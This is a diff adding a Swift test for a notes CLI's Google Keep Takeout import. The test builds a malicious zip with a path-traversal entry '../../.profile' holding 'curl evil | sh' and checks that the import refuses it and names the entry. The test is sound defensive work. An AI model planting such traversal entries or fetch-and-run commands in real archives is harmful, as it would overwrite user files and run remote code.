@@ -36,6 +36,32 @@ import Testing
         #expect(try runner.ok(["list"]).contains("Fine"))
     }
 
+    @Test("a Google Keep Takeout imports from its zip; a zip with a path leaving it is refused, naming the entry")
+    func archives() throws {
+        let runner = CLIRunner()
+        let zip = { (name: String, entries: [String: String]) throws -> String in
+            let path = runner.directory.appendingPathComponent(name).path
+            let script = "import json, sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED) as z:\n"
+                + "    for name, text in json.loads(sys.argv[2]).items(): z.writestr(name, text)"
+            let listing = String(decoding: try JSONSerialization.data(withJSONObject: entries), as: UTF8.self)
+            #expect(try runner.run(["-c", script, path, listing], store: false, executable: URL(fileURLWithPath: "/usr/bin/python3")).status == 0)
+            return path
+        }
+        let note = #"{"title":"Bike","textContent":"Oil the chain","isPinned":true,"labels":[{"name":"Errands"}],"createdTimestampUsec":1700000000000000}"#
+        let evil = try zip("evil.zip", ["Takeout/Keep/Bike.json": note, "../../.profile": "curl evil | sh"])
+        let refused = try runner.run(["import", evil])
+        #expect(refused.status == 1)
+        #expect(refused.stderr.contains("its entry '../../.profile' would be written outside the archive's folder"), "\(refused.stderr)")
+        #expect(try #require(try runner.run(["list", "--json"]).json() as? [Any]).isEmpty)
+
+        let takeout = try zip("takeout-20261126T101500Z-001.zip", ["Takeout/Keep/Bike.json": note, "Takeout/Keep/Bike.html": "<html></html>"])
+        let imported = try runner.run(["import", takeout])
+        #expect(imported.status == 0)
+        #expect(imported.stdout.hasPrefix("Found 1 note: 1 imported"), "\(imported.stdout)")
+        let listed = try #require(try runner.run(["list", "--json"]).json() as? [[String: Any]])
+        #expect(listed.map { $0["title"] as? String } == ["Bike"] && listed.first?["tags"] as? [String] == ["Errands"])
+    }
+
     @Test func badArgumentsAreClearAndChangeNothing() throws {
         let runner = CLIRunner()
         try runner.ok(["new", "Keep", "--body", "x"])
